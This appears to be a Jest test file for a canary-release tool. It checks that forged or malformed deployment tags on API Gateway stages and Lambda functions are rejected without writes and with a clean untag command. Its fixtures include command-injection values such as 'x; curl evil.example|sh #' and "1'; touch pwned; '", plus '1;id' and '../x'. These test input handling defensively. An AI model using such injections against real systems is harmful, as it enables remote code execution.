// Tags with a good checksum around something that no release wrote: an answer in words with a way out, whatever
// command meets it, and nothing of it in a line that people are told to paste.

import { UntagResourceCommand } from '@aws-sdk/client-api-gateway';
import { describe, expect, it } from '@jest/globals';
import { playFleet } from '../support/fleet-scene.ts';
import { forgedRecord, forgedTags, tagFunction, tagStage } from '../support/forge.ts';
import { errorsOf, play, readReport, type Scene, writesIn } from '../support/rollout.ts';

const STAGE = forgedRecord([{ name: 'hello', from: '1', to: '2' }], {
  kind: 'stage',
  deploymentId: 'old111',
  variables: { version: '1' },
  overrides: { version: '2' },
  useStageCache: false,
  drafts: [],
  promote: { deployment: true, variables: true, close: true },
});
const { target } = STAGE;
const { drafts: _, ...noDrafts } = target as unknown as Record<string, unknown>;
const { promote: __, ...noPromote } = target as unknown as Record<string, unknown>;

const MALFORMED: readonly (readonly [string, object])[] = [
  ['a beginning in words', { startedAt: 'soon' }],
  ['a target that is a word', { target: 'x' }],
  ['the target of an alias', { target: { kind: 'alias', aliases: { hello: 'live' } } }],
  ['a number of functions', { functions: 7 }],
  ['no drafts', { target: noDrafts }],
  ['no choice of promotion', { target: noPromote }],
  ['a command for an id', { target: { ...target, deploymentId: 'x; curl evil.example|sh #' } }],
  [
    'a command for a value',
    { target: { ...target, variables: { version: "1'; touch pwned; '" } } },
  ],
];

const WAYS = [
  { 'on-unfinished': 'rollback' },
  { command: 'rollback' },
  { command: 'promote' },
  { command: 'status' },
];

/** With the tags that the stage has, and no others. */
async function untagCommand({ api, simulator }: Scene): Promise<string> {
  const { region } = simulator.world.place;
  const arn = `arn:aws:apigateway:${region}::/restapis/${api.restApiId}/stages/${api.stageName}`;
  const keys = Object.keys((await api.stage()).tags ?? {});
  const ours = keys.filter((key) => key.startsWith('canary-action:')).join(' ');
  return `aws apigateway untag-resource --region ${region} --resource-arn ${arn} --tag-keys ${ours}`;
}

async function untag({ api, simulator }: Scene): Promise<void> {
  const { region } = simulator.world.place;
  const resourceArn = `arn:aws:apigateway:${region}::/restapis/${api.restApiId}/stages/${api.stageName}`;
  const tagKeys = Object.keys((await api.stage()).tags ?? {});
  await api.clients.apiGateway.send(new UntagResourceCommand({ resourceArn, tagKeys }));
}

describe('A record that no release wrote', () => {
  it('is described with a solution, and none of its text is shown', async () => {
    await play({}, async (scene) => {
      for (const [i, [, parts]] of MALFORMED.entries()) {
        await tagStage(scene, forgedTags({ record: { ...STAGE, ...parts }, canary: 'new222' }));
        const before = await scene.standing();
        const mark = scene.mark();
        const run = await scene.release(WAYS[i % WAYS.length]);
        expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'failed' } });
        const said = errorsOf(run).join();
        expect(said).toMatch(/cannot be read .*then remove its tags canary-action:\*/);
        expect(run.summary).toContain('then remove its tags');
        const [command] = readReport(run).commands.slice(-1);
        expect(command).toBe(await untagCommand(scene));
        expect(run.summary).toContain(command);
        expect(run.log + run.summary).not.toMatch(/curl|pwned|TypeError|undefined|Invalid time/);
        expect(writesIn(scene.calls(mark))).toEqual([]);
        expect(await scene.standing()).toEqual(before);
        await untag(scene);
      }
    });
  });

  it('is described for a function as well', async () => {
    await playFleet({}, async (scene) => {
      const record = forgedRecord([{ name: 'orders', from: '1', to: '1;id' }], {
        kind: 'alias',
        aliases: { orders: 'live' },
      });
      const strange = [forgedTags({ record }), { 'canary-action:with': '../x' }];
      for (const tags of strange) {
        await tagFunction(scene, 'orders', tags);
        const mark = scene.mark();
        const run = await scene.release({ command: 'rollback' });
        expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'failed' } });
        expect(errorsOf(run).join()).toMatch(/cannot be read .*remove its tags canary-action:\*/);
        expect(readReport(run).commands).toContain(
          `aws lambda untag-resource --region us-east-1 --resource arn:aws:lambda:us-east-1:123456789012:function:orders --tag-keys ${Object.keys(tags).join(' ')}`,
        );
        expect(writesIn(scene.calls(mark))).toEqual([]);
        await scene.untag('orders');
      }
    });
  });
});
